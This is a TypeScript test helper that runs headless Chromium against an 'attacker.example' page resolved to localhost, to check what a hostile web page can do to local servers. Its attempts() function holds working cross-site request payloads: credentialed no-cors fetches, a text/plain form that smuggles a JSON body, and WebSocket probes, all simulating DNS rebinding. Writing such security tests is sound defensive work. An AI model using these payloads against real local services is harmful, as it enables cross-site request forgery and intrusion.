// A real browser for tests of what a web page can do to servers on this machine. Without one, the test that needs it reports that and is
// skipped.
import { execFileSync, spawn } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tempDir } from './temp-dir.js';

const names = ['chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable', 'chrome'];

/** The program of a Chromium; undefined if none is installed. `SHARDCTL_TEST_BROWSER` names another one. */
export function findBrowser(): string | undefined {
	const candidates = process.env.SHARDCTL_TEST_BROWSER ? [process.env.SHARDCTL_TEST_BROWSER] : names;
	return candidates.find((name) => {
		try {
			execFileSync(name, ['--version'], { stdio: 'ignore', timeout: 60_000 });
			return true;
		} catch {
			return false;
		}
	});
}

/** Each of these names resolves to this machine, as after DNS rebinding. */
const resolverRules = 'MAP *.example 127.0.0.1';

function start(browser: string, args: string[]) {
	const child = spawn(
		browser,
		[
			'--headless',
			'--no-sandbox',
			'--disable-gpu',
			'--disable-dev-shm-usage',
			'--no-first-run',
			`--user-data-dir=${tempDir('shardctl-browser-')}`,
			`--host-resolver-rules=${resolverRules}`,
			...args,
		],
		// A browser is many processes: they end as a group.
		{ detached: true, stdio: ['ignore', 'pipe', 'ignore'] },
	);
	const gone = new Promise<void>((resolve) => child.once('close', () => resolve()));
	const end = async () => {
		try {
			process.kill(-(child.pid as number), 'SIGKILL');
		} catch {
			// It has ended by itself.
		}
		await gone;
	};
	return { child, gone, end };
}

/** The page at an address as the browser has it, as text. */
export async function browse(browser: string, url: string): Promise<string> {
	const { child, gone, end } = start(browser, ['--dump-dom', url]);
	let text = '';
	child.stdout.on('data', (data: Buffer) => {
		text += data.toString();
	});
	await gone;
	await end();
	return text;
}

/**
 * Runs a script in a page of `attacker.example`, and resolves with what it returns, as JSON.
 *
 * @param script The body of an async function.
 */
export async function runInPage(browser: string, script: string): Promise<unknown> {
	const page = `<!doctype html><body><script type="module">
		const result = await (async () => { ${script} })().catch((error) => ({ error: String(error) }));
		await fetch('/result', { method: 'POST', body: JSON.stringify(result ?? null) });
	</script></body>`;
	let report: (value: unknown) => void = () => {};
	const reported = new Promise<unknown>((resolve) => {
		report = resolve;
	});
	const server = createServer((request, response) => {
		let body = '';
		request.on('data', (data: Buffer) => {
			body += data.toString();
		});
		request.on('end', () => {
			if (request.url === '/result') report(JSON.parse(body));
			response.setHeader('content-type', 'text/html').end(request.url === '/' ? page : '');
		});
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const { port } = server.address() as AddressInfo;
	const { end } = start(browser, ['--remote-debugging-port=0', `http://attacker.example:${port}/`]);
	try {
		return await reported;
	} finally {
		await end();
		server.closeAllConnections();
		await new Promise((resolve) => server.close(resolve));
	}
}

/** What a page tries on a server: reads and writes of every kind that needs no consent. Returns what it could read, by attempt. */
export function attempts(urls: string[], body: string): string {
	return `
		const read = {};
		const tryTo = async (name, work) => {
			try { read[name] = await work(); } catch (error) { read[name] = null; }
		};
		for (const url of ${JSON.stringify(urls)}) {
			const body = ${JSON.stringify(body)};
			await tryTo('GET ' + url, async () => (await fetch(url)).text());
			await tryTo('GET opaque ' + url, async () => (await fetch(url, { mode: 'no-cors', credentials: 'include' })).text());
			await tryTo('POST text ' + url, async () => (await fetch(url, { method: 'POST', mode: 'no-cors', body })).text());
			await tryTo('POST json ' + url, async () =>
				(await fetch(url, { method: 'POST', body, headers: { 'content-type': 'application/json' } })).text());
			await tryTo('form ' + url, () => new Promise((resolve) => {
				const frame = document.createElement('iframe');
				frame.name = 'f' + Math.random();
				document.body.append(frame);
				const form = document.createElement('form');
				Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain', target: frame.name });
				const field = document.createElement('input');
				// Together they are JSON: {"a":1, … "x":"="}
				field.name = body.slice(0, -1) + ',"x":"';
				field.value = '"}';
				form.append(field);
				document.body.append(form);
				frame.addEventListener('load', () => { try { resolve(frame.contentDocument?.body.innerText ?? null); } catch { resolve(null); } });
				form.submit();
				setTimeout(() => resolve(null), 3000);
			}));
			await tryTo('WebSocket ' + url, () => new Promise((resolve) => {
				const socket = new WebSocket(url.replace(/^http/, 'ws'));
				socket.onmessage = ({ data }) => resolve(String(data));
				socket.onclose = () => resolve(null);
				setTimeout(() => { socket.close(); resolve(null); }, 3000);
			}));
		}
		return read;`;
}
